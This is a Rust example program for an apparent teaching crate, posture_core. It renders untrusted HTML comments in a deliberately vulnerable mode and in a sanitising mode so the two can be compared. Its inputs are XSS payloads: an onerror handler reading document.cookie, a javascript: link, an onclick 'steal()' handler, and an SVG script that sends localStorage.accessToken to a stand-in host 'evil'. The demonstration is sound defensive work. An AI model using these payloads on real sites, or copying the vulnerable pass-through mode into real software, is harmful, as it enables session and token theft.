//! Renders the same untrusted comment under both postures.
//!
//! Run with: `cargo run --example dual_render`

use posture_core::{render_untrusted, sanitize, SecurityMode, Tainted};

const COMMENTS: &[&str] = &[
    "<img src=x onerror=alert(document.cookie)>nice post",
    r#"<a href="javascript:alert(1)">click me</a>"#,
    r#"see <a href="https://example.com" rel="author">my blog</a>"#,
    "<svg><script>fetch('//evil/?t='+localStorage.accessToken)</script></svg><b>bold</b>",
];

fn main() {
    println!("=== Dual Render Example ===\n");

    for (i, raw) in COMMENTS.iter().enumerate() {
        println!("--- Comment {} ---", i + 1);
        println!("input : {}", raw);

        for mode in [SecurityMode::Vuln, SecurityMode::Secure] {
            let rendered = render_untrusted(Tainted::new(raw.to_string()), mode);
            println!("{:<6}: {}", rendered.mode().to_string(), rendered.as_ref());
        }
        println!();
    }

    println!("--- Sanitizer alone (no link hardening) ---");
    let raw = r#"<a href="/article/1" onclick="steal()">read</a>"#;
    println!("input : {}", raw);
    println!("secure: {}", sanitize(raw, SecurityMode::Secure));
    println!("\nVULN output is the input, byte for byte.");
}
